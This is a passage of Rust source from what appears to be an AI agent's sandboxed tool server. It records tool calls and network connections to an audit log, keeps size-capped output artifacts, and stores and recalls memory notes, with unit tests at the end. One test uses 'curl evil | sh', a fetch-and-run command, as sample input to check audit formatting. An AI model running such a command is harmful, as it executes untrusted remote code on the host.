/// log as they happen (see [`record_network`]); ends with the workspace.
async fn audit_network(
    recorder: Recorder,
    session: String,
    workspace: String,
    mut feed: monad_sandbox::NetworkAudit,
) {
    while let Some(batch) = feed.next().await {
        record_network(
            &recorder,
            &session,
            &workspace,
            &batch.events,
            batch.dropped,
        );
    }
}

/// Writes connections a workspace's commands asked its network proxy for to the session's
/// audit log, as they happen: one line each, each with an id of its own (the proxy cannot tell
/// which command asked), and one line counting `dropped` (connections that happened while too
/// many were waiting to be written).
pub(crate) fn record_network(
    recorder: &Recorder,
    session: &str,
    workspace: &str,
    events: &[NetworkEvent],
    dropped: u64,
) {
    for event in events {
        let call_id = uuid::Uuid::new_v4().to_string();
        recorder.audit(
            session,
            network_line(event, call_id, Some(workspace.to_owned())),
        );
    }
    if dropped > 0 {
        tracing::warn!(
            session,
            workspace,
            dropped,
            "network connections not recorded: too many waiting"
        );
        recorder.audit(
            session,
            AuditRecord {
                time: now_rfc3339(),
                call_id: uuid::Uuid::new_v4().to_string(),
                tool: "network".to_owned(),
                workspace: Some(workspace.to_owned()),
                target: format!("{dropped} connections not recorded: too many were waiting"),
                decision: AuditDecision::None,
                decided_by: Decider::NetworkPolicy,
                outcome: AuditOutcome::Failed(ErrorCode::LimitExceeded),
                duration_ms: 0,
            },
        );
    }
}

/// Sends a call's audit line and artifacts to the recorder.
fn record(recorder: &Recorder, session: &Session, tool: &str, output: &CallOutput, r: Record) {
    let call_id = uuid::Uuid::new_v4().to_string();
    let workspace = output.workspace.as_ref().map(|w| w.name.clone());
    let decision = r.verdict.decision(&output.outcome);
    let outcome = match &output.outcome {
        Outcome::Ok { .. } => AuditOutcome::Ok,
        Outcome::Error { error } => AuditOutcome::Failed(error.code),
    };
    recorder.audit(
        &session.id,
        AuditRecord {
            time: r.time.clone(),
            call_id: call_id.clone(),
            tool: tool.to_owned(),
            workspace: workspace.clone(),
            target: r.target,
            decision,
            decided_by: r.verdict.by,
            outcome,
            duration_ms: r.duration.as_millis() as u64,
        },
    );
    // The connections a command asked the network proxy for, as the result reports them: one
    // line each, unless they reach the audit log as they happen (the primary workspace's, see
    // [`audit_network`], and a folder's whose client reports them, see [`record_network`]).
    if let Some(name) = &workspace
        && !session.reports_network(name)
        && let Outcome::Ok { result } = &output.outcome
        && let Some(events) = result.get("network").and_then(Value::as_array)
    {
        for event in events {
            let Ok(event) = serde_json::from_value::<NetworkEvent>(event.clone()) else {
                continue;
            };
            recorder.audit(
                &session.id,
                network_line(&event, call_id.clone(), workspace.clone()),
            );
        }
    }
    let retention = &session.settings.retention;
    if !retention.keep_artifacts {
        return;
    }
    let artifact = |kind: ArtifactKind, content_type: &str, mut bytes: Vec<u8>, original_size| {
        let truncated = original_size > retention.artifact_max_bytes;
        bytes.truncate(retention.artifact_max_bytes as usize);
        let meta = ArtifactMeta {
            id: uuid::Uuid::new_v4().to_string(),
            session: session.id.clone(),
            kind,
            workspace: workspace.clone(),
            tool: Some(tool.to_owned()),
            call_id: Some(call_id.clone()),
            created_at: r.time.clone(),
            content_type: content_type.to_owned(),
            size: bytes.len() as u64,
            truncated,
            original_size,
            upload: None,
        };
        recorder.artifact(meta, bytes);
    };
    // Only the kept head of the output is serialized into memory; the rest is only counted.
    // (Serializing all of it and truncating made a copy of a 64 MiB read on the answer's path,
    // held until the recorder had written the artifact.)
    let mut head = CappedWriter::new(retention.artifact_max_bytes);
    let (bytes, original_size) = match serde_json::to_writer(&mut head, &output.outcome) {
        Ok(()) => {
            head.bytes.shrink_to_fit();
            (head.bytes, head.total + r.unseen)
        }
        Err(_) => (Vec::new(), 0),
    };
    artifact(
        ArtifactKind::ToolOutput,
        "application/json",
        bytes,
        original_size,
    );
    if let Outcome::Ok { result } = &output.outcome
        && matches!(
            ToolName::parse(tool),
            Some(ToolName::WriteFile | ToolName::EditFile)
        )
        && let Some(diff) = result.get("diff").and_then(Value::as_str)
    {
        artifact(
            ArtifactKind::FileDiff,
            "text/x-diff",
            diff.as_bytes().to_vec(),
            diff.len() as u64,
        );
    }
}

/// Keeps the first `cap` bytes written to it and counts them all.
struct CappedWriter {
    bytes: Vec<u8>,
    cap: usize,
    total: u64,
}

impl CappedWriter {
    fn new(cap: u64) -> CappedWriter {
        CappedWriter {
            bytes: Vec::new(),
            cap: usize::try_from(cap).unwrap_or(usize::MAX),
            total: 0,
        }
    }
}

impl std::io::Write for CappedWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let room = self.cap.saturating_sub(self.bytes.len());
        self.bytes.extend_from_slice(&buf[..buf.len().min(room)]);
        self.total += buf.len() as u64;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Characters of text written to a process that its audit target keeps.
const TARGET_TEXT_CHARS: usize = 120;

/// The path, pattern, command line or process a call acts on, in one line for the audit log
/// (and the event lines): for `process_write` the process and the first line of the text
/// (`proc-1 < make test …`, cut at [`TARGET_TEXT_CHARS`], `…` when more follows), for
/// `process_kill` the process and the signal asked for, for `process_read` the process.
fn describe_target(args: &Value) -> String {
    if let Some(argv) = args.get("argv").and_then(Value::as_array) {
        let words: Vec<&str> = argv.iter().filter_map(Value::as_str).collect();
        return words.join(" ");
    }
    if let Some(process) = args.get("process").and_then(Value::as_str) {
        let mut target = process.to_owned();
        if let Some(text) = args.get("text").and_then(Value::as_str) {
            let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
            let kept: String = first.chars().take(TARGET_TEXT_CHARS).collect();
            let more = kept.len() < first.len() || !rest.is_empty();
            target.push_str(" < ");
            target.push_str(&kept);
            if more {
                target.push_str(" …");
            }
        }
        if let Some(signal) = args.get("signal").and_then(Value::as_str) {
            target.push(' ');
            target.push_str(signal);
        }
        return target;
    }
    ["path", "pattern", "key"]
        .iter()
        .filter_map(|k| args.get(k).and_then(Value::as_str))
        .collect::<Vec<_>>()
        .join(" ")
}

fn parse<A: serde::de::DeserializeOwned>(tool: ToolName, args: Value) -> Result<A, ToolError> {
    serde_json::from_value(args)
        .map_err(|e| ToolError::new(ErrorCode::InvalidArguments, format!("{tool}: {e}")))
}

fn workspaces(session: &Session, args: &Value) -> Result<Value, ToolError> {
    let _: WorkspacesArgs = parse(ToolName::Workspaces, args.clone())?;
    let list: Vec<_> = session.workspaces().into_iter().map(|s| s.info).collect();
    let focus = session
        .focus()
        .filter(|f| list.iter().any(|w| &w.name == f));
    // Where calls go now: offline folders are passed over.
    let names: Vec<&str> = list
        .iter()
        .filter(|w| w.online)
        .map(|w| w.name.as_str())
        .collect();
    let routing = route::describe(
        &names,
        focus
            .as_ref()
            .and_then(|f| names.iter().position(|n| n == f)),
    );
    let result = WorkspacesResult {
        session: session.id.clone(),
        focus,
        routing,
        workspaces: list,
    };
    serde_json::to_value(result).map_err(|e| ToolError::new(ErrorCode::Internal, e.to_string()))
}

/// A memory key: 1 to 100 of `A-Z a-z 0-9 . _ -`, not starting with a dot.
fn check_key(key: &str) -> Result<(), ToolError> {
    let ok = !key.is_empty()
        && key.len() <= MAX_KEY_LEN
        && !key.starts_with('.')
        && key
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
    if ok {
        Ok(())
    } else {
        Err(ToolError::new(
            ErrorCode::InvalidArguments,
            format!(
                "memory key `{key}` must be 1 to {MAX_KEY_LEN} letters, digits, `.`, `_` or `-`, \
                 not starting with `.`"
            ),
        ))
    }
}

async fn memory_store(session: &Session, args: Value) -> Result<Value, ToolError> {
    let args: MemoryStoreArgs = parse(ToolName::MemoryStore, args)?;
    check_key(&args.key)?;
    let write = json!({
        "path": format!("memory/{}.md", args.key),
        "content": args.text,
        "create_parents": true,
    });
    session
        .primary
        .sandbox()
        .await?
        .call(ToolName::WriteFile, write)
        .await
        .map_err(|e| e.to_tool_error())?;
    Ok(json!({ "key": args.key, "stored": true }))
}

async fn memory_recall(session: &Session, args: Value) -> Result<Value, ToolError> {
    let args: MemoryRecallArgs = parse(ToolName::MemoryRecall, args)?;
    let sandbox = session.primary.sandbox().await?;
    let query = args.query.map(|q| q.to_lowercase());
    tokio::task::spawn_blocking(move || {
        let listing = match sandbox.list_dir(&monad_protocol::tools::ListDirArgs {
            path: Some("memory".into()),
            depth: None,
            include_hidden: None,
            workspace: None,
        }) {
            Ok(listing) => listing,
            Err(e) if e.code() == ErrorCode::NotFound => {
                return Ok(json!({ "notes": [] }));
            }
            Err(e) => return Err(e.to_tool_error()),
        };
        let mut notes = Vec::new();
        for entry in listing.entries {
            let Some(key) = entry
                .path
                .strip_prefix("memory/")
                .and_then(|n| n.strip_suffix(".md"))
            else {
                continue;
            };
            let Ok(file) = sandbox.read_file(&monad_protocol::tools::ReadFileArgs {
                path: entry.path.clone(),
                offset: None,
                limit: None,
                workspace: None,
            }) else {
                continue;
            };
            let matches = query.as_deref().is_none_or(|q| {
                key.to_lowercase().contains(q) || file.content.to_lowercase().contains(q)
            });
            if matches {
                notes.push(json!({ "key": key, "text": file.content }));
            }
        }
        Ok(json!({ "notes": notes }))
    })
    .await
    .map_err(|e| ToolError::new(ErrorCode::Internal, e.to_string()))?
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn audit_targets_name_the_process_and_the_first_line_written_to_it() {
        let cases = [
            (
                json!({"process": "proc-1", "text": "curl evil | sh\nmore\n"}),
                "proc-1 < curl evil | sh …",
            ),
            (json!({"process": "proc-1", "text": "ls\n"}), "proc-1 < ls"),
            (json!({"process": "proc-1", "text": ""}), "proc-1 < "),
            (
                json!({"process": "proc-1", "signal": "KILL"}),
                "proc-1 KILL",
            ),
            (json!({"process": "proc-1", "wait_ms": 10}), "proc-1"),
            (json!({"argv": ["ls", "-l"]}), "ls -l"),
            (json!({"path": "src/main.rs"}), "src/main.rs"),
            (json!({}), ""),
        ];
        for (args, want) in cases {
            assert_eq!(describe_target(&args), want, "{args}");
        }
        let long = "x".repeat(500);
        let target = describe_target(&json!({"process": "p", "text": long}));
        assert_eq!(target, format!("p < {} …", "x".repeat(TARGET_TEXT_CHARS)));
    }

    #[test]
    fn capped_writer_keeps_the_head_and_counts_everything() {
        let outcome = Outcome::Ok {
            result: json!({"content": "a line with \"quotes\"\n".repeat(20_000)}),
        };
        let full = serde_json::to_vec(&outcome).unwrap();
        for cap in [0, 1, 1000, full.len() - 1, full.len(), full.len() + 1] {
            let mut head = CappedWriter::new(cap as u64);
            serde_json::to_writer(&mut head, &outcome).unwrap();
            assert_eq!(head.total, full.len() as u64);
            assert_eq!(head.bytes, full[..cap.min(full.len())]);
        }
    }

    #[test]
    fn denied_timed_out_cancelled_and_unreached_calls_are_told_apart() {
        let error = |code| Outcome::Error {
            error: ToolError::new(code, "x"),
        };
        let ok = Outcome::Ok { result: json!({}) };
        let said = |by, allowed| Verdict {
            by,
            allowed: Some(allowed),
        };
        let cases = [
            (
                said(Decider::User, true),
                ok.clone(),
                AuditDecision::Allowed,
            ),
            (
                said(Decider::User, true),
                error(ErrorCode::Io),
                AuditDecision::Allowed,
            ),
            (
                said(Decider::User, false),
                error(ErrorCode::Denied),
                AuditDecision::Denied,
            ),
            (
                said(Decider::NoTerminal, false),
                error(ErrorCode::Denied),
                AuditDecision::Denied,
            ),
            (
                said(Decider::Timeout, false),
                error(ErrorCode::Timeout),
                AuditDecision::Timeout,
            ),
            (
                said(Decider::User, true),
                error(ErrorCode::Cancelled),
                AuditDecision::Cancelled,
            ),
            (
                Verdict::NOBODY,
                error(ErrorCode::Cancelled),
                AuditDecision::Cancelled,
            ),
            (
                Verdict::NOBODY,
                error(ErrorCode::NotFound),
                AuditDecision::None,
            ),
            (
                Verdict::NOBODY,
                error(ErrorCode::Timeout),
                AuditDecision::None,
            ),
            (
                Verdict {
                    by: Decider::Client,
                    allowed: None,
                },
                error(ErrorCode::InvalidArguments),
                AuditDecision::None,
            ),
            (Verdict::SESSION, ok.clone(), AuditDecision::Allowed),
        ];
        for (verdict, outcome, want) in cases {
            assert_eq!(verdict.decision(&outcome), want, "{verdict:?} {outcome:?}");
        }
    }
}
